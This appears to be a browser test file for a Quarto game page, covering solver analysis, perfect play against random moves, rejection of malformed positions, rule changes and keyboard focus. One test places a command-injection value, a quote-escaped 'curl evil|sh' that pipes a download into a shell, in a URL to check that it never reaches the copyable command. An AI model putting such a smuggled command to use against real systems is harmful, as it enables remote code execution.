import { strict as assert } from "node:assert";
import { status, unfold } from "./browser.mjs";

/** Waits for a person's turn or the end; `null` at the end, or else the text of the status. */
async function turn(page) {
  const line = page.locator("p.status").filter({ hasText: /choose a piece|place the piece|Quarto|draw\./ });
  await line.waitFor({ timeout: 60_000 });
  const text = await line.innerText();
  return /has a Quarto|a draw\./.test(text) ? null : text;
}

/** The legal moves on the page, each with its element. */
async function moves(page, text) {
  const found = text.includes("place the piece")
    ? page.locator('.cell[aria-label*=", empty"]')
    : page.locator(".shelf button:not([disabled]):not(.gone)");
  return found.all();
}

/** The person wins against perfect play from a position in which it has blundered. */
export async function aPlantedBlunderIsWon({ open }) {
  const page = await open("#quarto?position=135./68../..../....+7&seats=hp");
  await page.getByLabel("Analysis").check();
  await page.locator(".worth.win").waitFor({ timeout: 60_000 });
  const wins = await page.locator('.cell[aria-label*="won"]').all();
  assert.equal(wins.length, 1);
  await wins[0].click();
  await status(page, "Player 1 has a Quarto.");
}

/** Twenty games of perfect play against random moves, made in the page as a person makes them. */
export async function perfectPlayNeverLoses({ open }) {
  // With reduced motion the player answers at once.
  const page = await open("#quarto?seats=hp", { reducedMotion: "reduce" });
  let random = 20261122;
  const pick = (count) => {
    random = (random * 1103515245 + 12345) % 2147483648;
    return Math.floor((random / 2147483648) * count);
  };
  const results = { perfect: 0, draw: 0 };
  for (let game = 0; game < 20; game += 1) {
    await page.getByRole("button", { name: "New game" }).click();
    for (;;) {
      const text = await turn(page);
      if (text === null) break;
      if (!text.startsWith("Player 1")) continue;
      const all = await moves(page, text);
      if (all.length === 0) continue;
      const before = await page.locator("#panel input.mono").inputValue();
      await all[pick(all.length)].click();
      await page.waitForFunction((old) => document.querySelector("#panel input.mono").value !== old, before);
    }
    const end = await page.locator("p.status").innerText();
    assert(!end.includes("Player 1 has"), `game ${game + 1}: ${end}`);
    results[end.includes("Player 2") ? "perfect" : "draw"] += 1;
  }
  assert(results.perfect >= 10, `random play holds ${results.draw} draws of 20`);
}

export async function badTextIsRefused({ open }) {
  const page = await open("#quarto");
  await status(page, "choose a piece");
  await unfold(page);
  await page.locator("input.mono").fill("00../..../..../.... -");
  await page.getByRole("button", { name: "Set up" }).click();
  await page.locator(".message.bad").waitFor();
  await page.locator("input.mono").fill("0..3/..../.c../.... 5");
  await page.getByRole("button", { name: "Set up" }).click();
  await status(page, "place the piece");
  assert(page.url().includes("position=0..3/..../.c../....+5"));
}

/** Two squares of four alike are a position of the lines, and none of the squares: the game would have ended at the first. */
export async function refusedRulesLeaveTheBoard({ open }) {
  const page = await open("#quarto?position=13../57../..8a/..ce+-&seats=hh");
  await status(page, "choose a piece");
  await unfold(page);
  const rules = page.getByLabel("Rules: four alike in");
  const undo = page.getByRole("button", { name: "Undo" });
  await rules.selectOption("squares");
  await page.getByRole("alert").waitFor();
  assert.equal(await rules.inputValue(), "lines");
  assert(await undo.isDisabled());
  await page.locator('.shelf button[data-piece="0"]').click();
  await status(page, "place the piece");
  await undo.click();
  await status(page, "choose a piece");
  assert(await undo.isDisabled());
  assert(page.url().includes("position=13../57../..8a/..ce+-"));
}

/** A link that is no position is refused, and nothing of it comes into the command to copy. */
export async function aBadPositionInTheLinkIsRefused({ open }) {
  const page = await open('#quarto?position=x"; curl evil|sh #');
  await page.getByRole("alert").waitFor();
  await status(page, "choose a piece");
  assert(await page.getByRole("button", { name: "Undo" }).isDisabled());
  const command = await page.locator(".panel-quarto .command").textContent();
  assert.equal(command, 'abstract-games quarto solve "..../..../..../.... -" --rules lines --distances');
}

/** Values come in one by one, and the piece with the focus keeps it. */
export async function aPieceKeepsTheFocus({ open }) {
  const page = await open("#quarto?position=0..3/..../.c../....+-&seats=hh");
  await page.getByLabel("Analysis").check();
  const piece = page.locator('.shelf button[data-piece="5"]');
  await piece.and(page.locator(":enabled")).waitFor();
  await piece.focus();
  const took = page.locator(".panel-quarto .message", { hasText: "moves took" });
  await took.waitFor({ state: "attached", timeout: 60_000 });
  assert.equal(await page.evaluate(() => document.activeElement.dataset.piece), "5");
}
